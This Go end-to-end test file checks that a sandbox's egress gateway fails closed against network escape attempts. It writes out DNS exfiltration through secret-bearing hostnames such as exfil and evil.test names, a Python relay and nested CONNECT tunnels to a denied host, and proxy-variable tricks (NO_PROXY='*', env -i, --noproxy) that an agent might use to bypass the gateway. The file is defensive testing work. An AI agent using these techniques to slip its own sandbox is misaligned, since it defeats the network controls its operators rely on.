package e2e

// Attack battery, network side: DNS exfiltration through the gateway,
// relayed CONNECT and proxy-environment escapes. Every test here proves
// the attempt fails closed; most carry a positive control showing the same
// plumbing works for an allowed destination. docs/security.md maps each
// test to the attack it covers.

import (
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"testing"
)

// atkCountingListener accepts TCP connections on ip:0, counts them and
// closes them at once. It stands in for a destination the policy denies.
func atkCountingListener(t *testing.T, ip string) (port int, hits *atomic.Int64) {
	t.Helper()
	ln, err := net.Listen("tcp4", ip+":0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	hits = new(atomic.Int64)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			hits.Add(1)
			c.Write([]byte("DENIED-DESTINATION-REACHED\n"))
			c.Close()
		}
	}()
	return ln.Addr().(*net.TCPAddr).Port, hits
}

// TestAttackDNSExfilThroughGateway: the child encodes a secret in a host
// name and asks the gateway for it, hoping the gateway resolves the name
// before checking the allowlist (peers §5 item 2, OpenShell#1169). Both the
// CONNECT path (https) and the absolute-form forward path (http) must
// answer 403 without the loopback DNS server ever seeing the name.
func TestAttackDNSExfilThroughGateway(t *testing.T) {
	g := newGW(t)
	const secret = "s3cr3t-0123456789abcdef"
	names := []string{
		secret + ".exfil.nono.test",
		secret + ".origin.nono.test.evil.test", // allowed name as a prefix
		"origin.nono.test.evil.test",
		secret + "-origin.nono.test", // allowed name as a suffix without the dot
	}
	for _, name := range names {
		t.Run(name, func(t *testing.T) {
			for kind, url := range map[string]string{
				"connect": fmt.Sprintf("https://%s:%d/", name, g.origin.port),
				"forward": fmt.Sprintf("http://%s:%d/", name, g.origin.httpPort),
			} {
				r := g.run(append(g.proxyArgs(), "--", "curl", "-fsS", "-v", "-m", "10", "--cacert", g.origin.caFile, url)...)
				if r.code == 0 || strings.Contains(r.stdout, "hello from origin") {
					t.Fatalf("%s to %s got through: %s", kind, name, r)
				}
				mustContain(t, r, r.stderr, "403")
			}
			if n := g.dns.count(name); n != 0 {
				t.Fatalf("the gateway resolved the denied name %s %d times: DNS exfiltration works", name, n)
			}
		})
	}
	// Positive control: the allowed name is resolved through the same DNS
	// server and reached on both paths, so the zero counts above mean
	// something.
	for _, url := range []string{g.origin.url("origin.nono.test", "/"), fmt.Sprintf("http://origin.nono.test:%d/", g.origin.httpPort)} {
		r := g.run(append(g.proxyArgs(), "--", "curl", "-sS", "-m", "10", "--cacert", g.origin.caFile, url)...)
		mustContain(t, r, r.stdout, "hello from origin")
	}
	if g.dns.count("origin.nono.test") == 0 {
		t.Fatal("positive control: the gateway never asked the test DNS server")
	}
}

// TestAttackRelayedConnect: the agent looks for a second route to a denied
// host (peers §5 item 14): (1) a relay inside the sandbox that listens on
// an --open-port and forwards to the denied host itself, (2) CONNECT to an
// allowed host through the gateway and a second CONNECT or absolute-form
// request for the denied host inside that tunnel, (3) asking the gateway
// to CONNECT to a denied host on the relay's behalf.
func TestAttackRelayedConnect(t *testing.T) {
	needPython(t)
	g := newGW(t)
	g.dns.add("denied.nono.test", "127.0.0.3")
	deniedPort, deniedHits := atkCountingListener(t, "127.0.0.3")
	relayPort := freePort(t)
	code := fmt.Sprintf(`
import os, socket, threading, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
relay_port, denied_ip, denied_port = %d, "127.0.0.3", %d
origin_port = %d

def attempt(name, fn):
    try:
        print(name, "OPEN", fn())
    except OSError as e:
        print(name, "errno", e.errno)

# (1) The relay: listen on the open port, forward each connection to the
# denied destination.
srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", relay_port)); srv.listen(1)
relay_result = []
def relay():
    c, _ = srv.accept()
    try:
        up = socket.create_connection((denied_ip, denied_port), timeout=5)
        relay_result.append("relay-upstream OPEN " + repr(up.recv(64)))
    except OSError as e:
        relay_result.append("relay-upstream errno %%d" %% e.errno)
    c.close()
th = threading.Thread(target=relay); th.start()
cli = socket.create_connection(("127.0.0.1", relay_port), timeout=5)
th.join(); cli.close()
print(relay_result[0])
attempt("direct-denied", lambda: socket.create_connection((denied_ip, denied_port), timeout=5).recv(64))

def via_gateway(first, inner=None):
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
    auth = __import__("base64").b64encode(("%%s:%%s" %% (proxy.username, proxy.password)).encode()).decode()
    s.sendall(("CONNECT %%s HTTP/1.1\r\nHost: %%s\r\nProxy-Authorization: Basic %%s\r\n\r\n" %% (first, first, auth)).encode())
    head = s.recv(4096).decode(errors="replace").split("\r\n")[0]
    if inner is None or " 200" not in head:
        return head
    s.sendall(inner.encode())
    data = b""
    while True:
        try:
            b = s.recv(4096)
        except OSError:
            break
        if not b:
            break
        data += b
    return head + " | " + data.decode(errors="replace").split("\r\n")[0] + (" | BODY-SAYS-DENIED" if b"DENIED-DESTINATION" in data else "") + (" | ORIGIN-ANSWERED" if b"hello from origin" in data else "")

# (2) Tunnel to the allowed host's plain-HTTP port, then ask for the denied host inside it.
print("tunnel-connect", via_gateway("origin.nono.test:%%d" %% origin_port,
    "CONNECT denied.nono.test:%%d HTTP/1.1\r\nHost: denied.nono.test:%%d\r\nConnection: close\r\n\r\n" %% (denied_port, denied_port)))
print("tunnel-absolute", via_gateway("origin.nono.test:%%d" %% origin_port,
    "GET http://denied.nono.test:%%d/ HTTP/1.1\r\nHost: denied.nono.test:%%d\r\nConnection: close\r\n\r\n" %% (denied_port, denied_port)))
# (3) The gateway itself, asked for the denied host by name and by address.
print("gateway-denied-name", via_gateway("denied.nono.test:%%d" %% denied_port))
print("gateway-denied-ip", via_gateway("%%s:%%d" %% (denied_ip, denied_port)))
`, relayPort, deniedPort, g.origin.httpPort)
	r := g.run(append(g.proxyArgs("--open-port", fmt.Sprint(relayPort)), "--", python, "-c", code)...)
	if r.code != 0 {
		t.Fatalf("probe failed: %s", r)
	}
	for _, want := range []string{
		"relay-upstream errno 13\n",
		"direct-denied errno 13\n",
		"gateway-denied-name HTTP/1.1 403",
		"gateway-denied-ip HTTP/1.1 403",
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("missing %q:\n%s", want, r.stdout)
		}
	}
	// Inside a tunnel to the allowed origin, the bytes reach the origin and
	// only the origin: it answers for itself, never for the denied host.
	for _, line := range strings.Split(r.stdout, "\n") {
		if strings.HasPrefix(line, "tunnel-") {
			if !strings.Contains(line, " 200") {
				t.Errorf("positive control: the tunnel to the allowed origin was not opened: %s", line)
			}
			if strings.Contains(line, "DENIED") {
				t.Errorf("a request inside the tunnel reached the denied host: %s", line)
			}
			if strings.HasPrefix(line, "tunnel-absolute") && !strings.Contains(line, "ORIGIN-ANSWERED") {
				t.Errorf("the absolute-form request inside the tunnel was not answered by the origin itself: %s", line)
			}
		}
	}
	if n := deniedHits.Load(); n != 0 {
		t.Fatalf("the denied destination accepted %d connections", n)
	}
	if n := g.dns.count("denied.nono.test"); n != 0 {
		t.Fatalf("the denied name was resolved %d times", n)
	}
}

// TestAttackProxyEnvEscapes extends TestGatewayEnvEscapesFailClosed
// (--noproxy, unset HTTPS_PROXY, resolving in the child) with the other
// environment tricks an agent can play on itself (peers §5 item 41): a
// NO_PROXY that matches everything, clearing NO_PROXY, ALL_PROXY and the
// lower-case variables set empty, pointing the proxy variables at the
// origin itself, and plain http with --noproxy. The proxy variables are
// only advice to the child: the kernel layers must refuse every direct
// route regardless.
func TestAttackProxyEnvEscapes(t *testing.T) {
	g := newGW(t)
	ipHTTPS := fmt.Sprintf("https://%s:%d/", originIP, g.origin.port)
	ipHTTP := fmt.Sprintf("http://%s:%d/", originIP, g.origin.httpPort)
	originAsProxy := fmt.Sprintf("http://%s:%d", originIP, g.origin.httpPort)
	ca := " --cacert " + g.origin.caFile + " "
	for name, script := range map[string]string{
		"no-proxy-star":     "NO_PROXY='*' no_proxy='*' curl -sS -m5" + ca + ipHTTPS,
		"no-proxy-origin":   "NO_PROXY=" + originIP + " no_proxy=" + originIP + " curl -sS -m5" + ca + ipHTTPS,
		"all-proxy-empty":   "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy ALL_PROXY= all_proxy= curl -sS -m5" + ca + ipHTTPS,
		"proxy-vars-empty":  "HTTPS_PROXY= https_proxy= HTTP_PROXY= http_proxy= ALL_PROXY= all_proxy= curl -sS -m5" + ca + ipHTTPS,
		"noproxy-plainhttp": "curl -sS -m5 --noproxy '*' " + ipHTTP,
		"origin-as-proxy":   "http_proxy=" + originAsProxy + " HTTP_PROXY=" + originAsProxy + " curl -sS -m5 " + ipHTTP,
		"explicit-proxy":    "curl -sS -m5 -x " + originAsProxy + " " + ipHTTP,
		"env-i":             "env -i /usr/bin/curl -sS -m5" + ca + ipHTTPS,
	} {
		t.Run(name, func(t *testing.T) {
			r := g.run(append(g.proxyArgs(), "--", "sh", "-c", script)...)
			if r.code == 0 || strings.Contains(r.stdout, "hello") {
				t.Fatalf("escape worked: %s", r)
			}
		})
	}
	if n := g.origin.hits.Load(); n != 0 {
		t.Fatalf("the origin was reached %d times", n)
	}
	// Positive control: clearing NO_PROXY only sends loopback traffic to
	// the gateway too; the allowed name still works through it.
	r := g.run(append(g.proxyArgs(), "--", "sh", "-c", "NO_PROXY= no_proxy= curl -sS -m10"+ca+g.origin.url("origin.nono.test", "/"))...)
	mustContain(t, r, r.stdout, "hello from origin")
}
